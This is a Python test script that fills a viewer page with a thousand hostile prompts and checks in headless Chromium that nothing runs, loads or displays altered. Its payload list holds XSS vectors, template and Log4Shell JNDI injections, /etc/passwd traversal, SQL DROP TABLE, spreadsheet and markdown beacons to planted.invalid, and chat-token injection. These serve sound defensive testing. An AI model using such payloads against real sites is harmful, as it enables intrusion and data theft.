"""A page of a thousand hostile prompts, read from the first to the last in a headless Chromium.

    python -m tests.faults.hostile_page --prompts 1000

Prompts, answers, ids, sources, references, names of systems and of reward models are made of
scripts, markup, ends of elements, template languages, JSON, paths, control characters and texts of
100,000 characters, some within others. None of it may run or load anything, and each text must be
shown as it was written, but for the hidden characters, of which a stand-in is shown.
"""

import argparse
import random
import sys
import tempfile
import time
from pathlib import Path
from typing import Any

from lib.viewers.page import write_page
from lib.viewers.visible import visible
from tests.browser.browsers import chromium
from tests.viewers.viewer_rows import HOSTILE, candidate

RUN = "document.body.dataset.planted = '{}'"
FURTHER = (
    f"<body onload=\"{RUN.format('body')}\">", f"\"><script>{RUN.format(1)}</script>",
    f"<a href=\"javascript:{RUN.format('link')}\">a</a>", f"'-{RUN.format('quote')}-'",
    f"<details open ontoggle=\"{RUN.format('toggle')}\">", "<base href=//planted.invalid>",
    f"<input autofocus onfocus=\"{RUN.format('focus')}\">",
    f"<math><mglyph><style><!--</style><img src onerror=\"{RUN.format('math')}\">",
    f"<template><script>{RUN.format('template')}</script></template>",
    f"<object data=\"data:text/html,<script>top.{RUN.format('object')}</script>\">",
    "<style>@import '//planted.invalid/a.css'; * { background: url(//planted.invalid/b) }</style>",
    "<meta http-equiv=refresh content='0;url=//planted.invalid'>",
    "<form action=//planted.invalid>", "</textarea></title></noscript></plaintext><plaintext>",
    "]]><?xml version='1.0'?><!DOCTYPE", "<%= 7 * 7 %> #{7 * 7} *{7*7}",
    "{{constructor.constructor('document.body.dataset.planted=1')()}}", "{{ config.items() }}",
    "${jndi:ldap://planted.invalid/a}", "{% include '/etc/passwd' %}",
    "\"}], \"prompts\": [], \"x\": [{\"", "\\u003cscript\\u003e", "\\", "%3Cscript%3E",
    "&#x3C;script&#x3E;", "__proto__", "constructor", "hasOwnProperty", "../../etc/passwd",
    "'; DROP TABLE scores; --", "=HYPERLINK(\"//planted.invalid\")",
    "![a](https://planted.invalid/a.png)", "<|im_end|>\n<|im_start|>",
    "\u202e\u2066\u2067\u2068", "\ufdd0\ufffe\uffff\U0010ffff", "\ud83d\ud83d\ude00",
    "a\u0300" * 500, "\U0001f3f4\U000e0067\U000e0062\U000e007f",
    "\u0430\u0440\u0440\u04cf\u0435", "\t\v\f\r\n\x1b]0;title\x07", "line\n" * 5000,
    "\U0001f469\u200d\U0001f680" * 20_000, "<b>" * 33_000, "\u05d0\u0628" * 50_000)
PIECES = (*HOSTILE.values(), *FURTHER)
LONG = 100_000  # characters, the most of a text

READ = """async (count) => {  // hidden, because a browser lays out 100,000 characters for long
    const shown = [], next = document.getElementById("next");
    document.getElementById("view").style.display = "none";
    const text = async (part) => {
        for (const more of part.querySelectorAll(":scope > .more")) {
            more.open = true;
            while (!more.querySelector(".text")) await new Promise((go) => setTimeout(go));
        }
        return [...part.querySelectorAll(":scope > .text, :scope > .more > .text")]
            .map((one) => one.textContent).join("");
    };
    for (let number = 0; number < count; number++) {
        shown.push([document.querySelector(".prompt .id").textContent,
                    await text(document.querySelector(".prompt")),
                    await text(document.querySelector(".answer.a")),
                    await text(document.querySelector(".answer.b"))]);
        next.click();
    }
    return shown;
}"""
WALK = """(count) => {
    const place = document.getElementById("place");
    place.value = 1;
    place.dispatchEvent(new Event("change"));
    return Array.from({length: count}, () => {
        const started = performance.now();
        document.getElementById("next").click();
        document.body.offsetHeight;
        return performance.now() - started;
    });
}"""
AT_ONCE = 50  # prompts whose texts come back together


def main() -> int:
    """Print size, times and faults; the exit status is 1 after any fault."""
    parser = argparse.ArgumentParser(description=__doc__.splitlines()[0])
    parser.add_argument("--prompts", type=int, default=1000)
    parser.add_argument("--seed", type=int, default=0)
    options = parser.parse_args()
    with tempfile.TemporaryDirectory() as folder, chromium() as browser:
        faults = read_all(hostile(options.prompts, options.seed), Path(folder), browser)
    print("\n".join(faults[:20]) or "no fault")
    return 1 if faults else 0


def hostile(prompts: int, seed: int) -> tuple[dict[str, list[dict[str, Any]]], list[dict]]:
    """Two systems' rows and the held-out rows; every piece is used, alone or within another."""
    draw = random.Random(seed)

    def text() -> str:
        one, other = draw.choice(PIECES), draw.choice(PIECES)
        place = draw.randrange(len(one) + 1)
        return (one[:place] + other + one[place:] if draw.random() < 0.6 else one)[:LONG]

    questions = [{"id": f"{number} {text()[:60]}", "prompt": PIECES[number % len(PIECES)],
                  "source": draw.choice(PIECES)[:40], "reference": text()[:500]}
                 for number in range(prompts)]
    systems = {name: [row | {"chosen": 0, "candidates": [
        candidate(text(), **{"judge": draw.random(), "<b>selector</b>": draw.random()})]}
        for row in questions] for name in ("<script>1</script>", "{{ 7 * 7 }}")}
    return systems, questions


def read_all(rows: tuple, folder: Path, browser: Any) -> list[str]:
    """What was wrong; prints the page's size and times."""
    systems, questions = rows
    first, second = systems
    started = time.monotonic()
    path = write_page(systems, folder / "compare.html", questions, ["judge"], a=first, b=second)
    written = time.monotonic() - started
    page, faults = browser.new_page(), []
    page.on("request", lambda request: None if request.url.startswith(path.as_uri())
            else faults.append(f"it asked for {request.url[:100]}"))
    page.on("pageerror", lambda error: faults.append(f"an error: {error}"[:200]))
    page.on("dialog", lambda dialog: faults.append("a dialog opened"))
    started = time.monotonic()
    page.goto(path.as_uri())
    page.wait_for_selector("body[data-ready=yes]", timeout=120_000)
    opened = time.monotonic() - started
    steps = []
    for mode in "cvlr":
        page.keyboard.press(mode)
        steps = page.evaluate(WALK, len(questions) - 1 if mode == "r" else AT_ONCE)
    page.evaluate(WALK, 0)
    faults += wrong_texts(page, systems[first], systems[second])
    if planted := page.evaluate("document.body.dataset.planted"):
        faults.append(f"a script ran: {planted}")
    page.close()
    print(f"{len(questions)} prompts: {path.stat().st_size / 1e6:.1f} MB, written in "
          f"{written:.1f} s, usable after {opened:.1f} s, the next prompt after "
          f"{sum(steps) / len(steps):.0f} ms, {max(steps):.0f} ms at worst")
    return faults


def wrong_texts(page: Any, first: list[dict], second: list[dict]) -> list[str]:
    """The prompts whose texts are not shown as they were written."""
    faults = []
    for begin in range(0, len(first), AT_ONCE):
        rows = list(zip(first, second, strict=True))[begin:begin + AT_ONCE]
        for (one, other), found in zip(rows, page.evaluate(READ, len(rows)), strict=True):
            wanted = [in_browser(one["id"]), *(shown(text) for text in (
                one["prompt"], one["candidates"][0]["text"], other["candidates"][0]["text"]))]
            faults += [f"{one['id']!r}: {name} is {is_!r:.80} and not {must!r:.80}"
                       for name, is_, must in zip(("id", "prompt", "a", "b"), found, wanted,
                                                  strict=True) if is_ != must]
    return faults


def in_browser(text: str) -> str:
    """A text as JavaScript has it, where two halves of a character are that character."""
    return text.encode("utf-16", "surrogatepass").decode("utf-16", "surrogatepass")


def shown(text: str) -> str:
    """How the page shows a text."""
    return visible(text) if visible(text).strip() else "(empty answer)"


if __name__ == "__main__":
    sys.exit(main())
